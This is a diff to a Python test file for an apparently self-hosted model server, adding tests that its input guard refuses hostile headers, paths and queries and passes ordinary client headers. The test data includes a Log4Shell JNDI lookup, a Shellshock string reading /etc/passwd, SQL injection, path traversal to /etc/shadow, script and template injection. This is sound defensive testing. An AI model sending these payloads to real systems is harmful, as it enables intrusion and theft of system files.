@@ -5,7 +5,8 @@ from __future__ import annotations
 import itertools
 import json
 import time
-from collections.abc import Iterator
+import urllib.parse
+from collections.abc import Iterator, Sequence
 from pathlib import Path
 from typing import Any
 
@@ -18,14 +19,15 @@ from inferno import config
 from inferno.errors import ApiError
 from inferno.messages import AuditAppend, Prepare, Reload, TokenLogprob
 from inferno.security.principal import KeyLimits, Principal
-from inferno.security.screening import Screener
-from inferno.server.guarding import Guards, OutputGuard
+from inferno.security.screening import Screened, Screener
+from inferno.server.guarding import MAX_CLEAN_HEADERS, Guards, OutputGuard
 from inferno.server.http import Context
 from inferno.server.redactors import NativeRedactors
 from inferno.server.sse import PADDING_BLOCK
 
 from .harness import WorkerUnderTest, running_worker, settings_for_tests
 
+DATA = Path(__file__).parents[2] / "data"
 KEY = "AKIAIOSFODNN7EXAMPLQ"  # the form of an AWS access key id, invented
 TEXT = f"before {KEY} after, mail ann@corp-mail.org"
 
@@ -173,7 +175,161 @@ def test_attacks_in_the_query_are_refused(guarded: WorkerUnderTest) -> None:
     assert httpx.get(f"{guarded.base_url}/v1/models?limit=20").status_code == 200
 
 
+@pytest.mark.parametrize(
+    ("header", "value"),
+    [
+        ("user-agent", "${jndi:ldap://198.51.100.7/a}"),
+        ("user-agent", "() { :; }; /bin/cat /etc/passwd"),
+        ("x-request-id", "1' OR '1'='1' --"),
+        ("x-client-request-id", "../../../../etc/shadow"),
+        ("openai-project", "<script>alert(1)</script>"),
+        ("accept-language", "{{7*7}}{{config.items()}}"),
+    ],
+)
+def test_inp_9_attacks_in_headers_are_refused(guarded: WorkerUnderTest, header: str, value: str) -> None:
+    answer = httpx.get(f"{guarded.base_url}/v1/models", headers={header: value})
+    assert answer.status_code == 400
+    assert (answer.json()["error"]["code"], answer.json()["error"]["param"]) == ("input_blocked", header)
+    assert value not in answer.text
+    found = audited(guarded, "input.blocked")
+    assert not any(value in json.dumps(record) for record in found)
+
+
+def test_inp_9_attacks_in_paths_are_refused(guarded: WorkerUnderTest) -> None:
+    for raw in ("..%2F..%2Fetc%2Fpasswd", "x%00", "m%E2%80%AEodel", "a%27%20OR%201=1--", "%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc"):
+        answer = httpx.get(f"{guarded.base_url}/v1/models/{raw}")
+        assert (answer.status_code, answer.json()["error"]["param"]) == (400, "id"), raw
+    for raw in ("fake", "org%2Fno-such-model", "llama-3.1:8b", "Mod%C3%A8le%20deux"):
+        assert httpx.get(f"{guarded.base_url}/v1/models/{raw}").status_code == (200 if raw == "fake" else 404), raw
+
+
+def test_inp_9_health_and_credentials_are_not_screened(guarded: WorkerUnderTest) -> None:
+    answer = httpx.get(f"{guarded.base_url}/healthz", headers={"user-agent": "../../etc/passwd"})
+    assert answer.status_code == 200
+
+
 # ---------------------------------------------------------------- without a worker
+
+
+class Told:
+    """Guard events, noted."""
+
+    def __init__(self) -> None:
+        self.screens: list[tuple[tuple[str, ...], str]] = []
+
+    def screened(self, context: Context, categories: Sequence[str], action: str) -> None:
+        self.screens.append((tuple(categories), action))
+
+    def redacted(self, context: Context, counts: dict[str, int]) -> None:
+        raise AssertionError(counts)
+
+    def fault(self, context: Context) -> None:
+        raise AssertionError
+
+
+ORDINARY_AGENTS = (
+    "OpenAI/Python 2.9.0", "AsyncOpenAI/Python 1.109.1", "OpenAI/JS 4.104.0", "Anthropic/Python 0.75.0", "curl/8.5.0",
+    "python-httpx/0.28.1", "python-requests/2.32.3", "Python/3.11 aiohttp/3.12.15", "Python-urllib/3.11", "Wget/1.21.4",
+    "Go-http-client/2.0", "axios/1.7.9", "node", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "okhttp/4.12.0",
+    "Apache-HttpClient/5.4.1 (Java/17.0.13)", "Java-http-client/21.0.5", "PostmanRuntime/7.43.0", "insomnia/10.3.0",
+    "kube-probe/1.31", "Prometheus/3.1.0", "ELB-HealthChecker/2.0", "GoogleHC/1.0", "Envoy/HC", "HTTPie/3.2.4", "reqwest/0.12.9",
+    "LangChain/0.3 langsmith-py/0.2.11", "litellm/1.81.0", "Continue/1.0 VSCode/1.96.2 (Linux; x64)", "aws-sdk-go/1.55.5 (go1.23.4; linux; amd64)",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.112",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:134.0) Gecko/20100101 Firefox/134.0",
+    "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.200 Mobile Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
+    "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)", "MyApp/1.0 CFNetwork/1568.200.51 Darwin/24.1.0",
+    "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.22621.4391", "Zabbix", "ollama-python/0.4.4 (x86_64 linux) Python/3.11.2",
+    "git/2.43.0", "UptimeRobot/2.0; http://www.uptimerobot.com/", "github.com/sashabaranov/go-openai", "llama-index/0.12", "Open WebUI (https://openwebui.com)",
+)  # fmt: skip
+ORDINARY_VALUES = (
+    ("x-request-id", "550e8400-e29b-41d4-a716-446655440000"), ("x-request-id", "req_7c3f9d1a2b"), ("x-request-id", "01JGZ8M4Q3T0YV5N6P7R8S9W0X"),
+    ("x-request-id", "Root=1-67891233-abcdef012345678912345678"), ("x-correlation-id", "job:4711/step-3"), ("idempotency-key", "stainless-python-retry-1f2d3c4b"),
+    ("x-client-request-id", "WkFkb2tjQ1JJT2lKQm9XRm1hQmlhZz09"), ("openai-organization", "org-AbCdEf0123456789"), ("openai-project", "proj_AbCdEf0123456789"),
+    ("openai-beta", "assistants=v2"), ("anthropic-version", "2023-06-01"), ("anthropic-beta", "prompt-caching-2024-07-31,tools-2024-05-16"),
+    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"), ("accept", "text/event-stream"),
+    ("accept-language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7,*;q=0.5"),
+    # held to forms of their own, or read by nobody
+    ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"), ("tracestate", "es=s:1;dd=s:1;o:rum;t.dm:-4"),
+    ("x-forwarded-for", "203.0.113.9, 10.0.0.1, 127.0.0.1"), ("forwarded", 'for="[2001:db8::1]:4711";proto=https;by=127.0.0.1'),
+    ("x-forwarded-host", "localhost:8080"), ("referer", "http://localhost:3000/chat?x=1"), ("origin", "http://localhost:3000"),
+    ("cookie", "session=../../etc; theme=<dark>"), ("sec-ch-ua", '"Chromium";v="131", "Not_A Brand";v="24"'), ("x-stainless-lang", "python"),
+    ("x-forwarded-client-cert", "By=spiffe://cluster.local/ns/a/sa/b;Hash=00;URI=spiffe://cluster.local/ns/c/sa/d"), ("via", "1.1 proxy.internal (squid/5.7)"),
+)  # fmt: skip
+
+
+def test_inp_9_headers_of_ordinary_clients_pass() -> None:
+    told = Told()
+    guards = Guards(screener=Screener(), events=told)
+    context = Context("req_x", "127.0.0.1")
+    for agent in ORDINARY_AGENTS:
+        guards.headers(context, [(b"user-agent", agent.encode())])
+    for name, value in ORDINARY_VALUES:
+        guards.headers(context, [(name.encode(), value.encode())])
+    assert told.screens == []
+
+
+def test_inp_9_every_attack_is_refused_as_a_header_and_in_a_url() -> None:
+    guards = Guards(screener=Screener())
+    context = Context("req_x", "127.0.0.1")
+    for line in (DATA / "cases" / "scan_attack.jsonl").read_text("utf-8").splitlines():
+        text = json.loads(line)["text"]
+        raw = text.encode("utf-8", "surrogatepass")
+        for screen in (
+            lambda raw=raw: guards.headers(context, [(b"user-agent", raw)]),
+            lambda raw=raw: guards.query(context, b"x=" + urllib.parse.quote_from_bytes(raw, safe="").encode()),
+            lambda text=text: guards.path(context, {"id": text.encode("utf-8", "replace").decode()}),
+        ):
+            with pytest.raises(ApiError) as refused:
+                screen()
+            assert refused.value.code in ("input_blocked", "invalid_text"), line
+
+
+def test_ordinary_queries_pass() -> None:
+    guards = Guards(screener=Screener())
+    context = Context("req_x", "127.0.0.1")
+    for query in (
+        b"limit=20", b"after=2026-01-01T00:00:00%2B00:00&result=failure", b"actor=J%C3%BCrgen&event=auth.login",
+        b"since=2026-01-01T00:00:00+00:00", b"actor=%E5%B1%B1%E7%94%B0", b"model=org%2Fname-7b", b"cursor=Zm9vYmFyCg%3D%3D", b"q=C%2B%2B+and+more",
+    ):  # fmt: skip
+        guards.query(context, query)
+
+
+def test_what_a_header_holds_is_judged_once_and_again_after_a_reload(tmp_path: Path) -> None:
+    asked: list[str] = []
+
+    class Counting(Screener):
+        def header_value(self, name: str, value: str) -> Screened:
+            asked.append(value)
+            return super().header_value(name, value)
+
+    guards = Guards(screener=Counting(max_input_length=100))
+    context = Context("req_x", "127.0.0.1")
+    agent = [(b"user-agent", b"moonshot/1.0"), (b"x-request-id", b"550e8400-e29b-41d4-a716-446655440000")]
+    for _ in range(3):
+        guards.headers(context, agent)
+    assert asked == ["moonshot/1.0"]
+    for number in range(MAX_CLEAN_HEADERS + 5):
+        guards.headers(context, [(b"user-agent", b"agent/%d" % number)])
+    assert len(guards._clean_headers) <= MAX_CLEAN_HEADERS
+    rules = tmp_path / "rules.toml"
+    rules.write_text('[[rule]]\nid = "own"\ncategory = "own"\npattern = "moonshot"\nscore = 0.9\nidentifier = "block"\n')
+    guards.reload(100, [rules])
+    for _ in range(2):  # a refusal is not remembered as clean
+        with pytest.raises(ApiError):
+            guards.headers(context, agent)
+
+
+def test_headers_pass_where_the_guard_is_off() -> None:
+    attack = [(b"user-agent", b"../../etc/passwd")]
+    context = Context("req_x", "127.0.0.1")
+    Guards().headers(context, attack)
+    Guards(screener=Screener(enabled=False)).headers(context, attack)
+    told = Told()
+    Guards(screener=Screener(scan_identifiers="report"), events=told).headers(context, attack)
+    assert told.screens == [(("path-traversal",), "report")]
 
 
 def principal(**fields: Any) -> Principal:
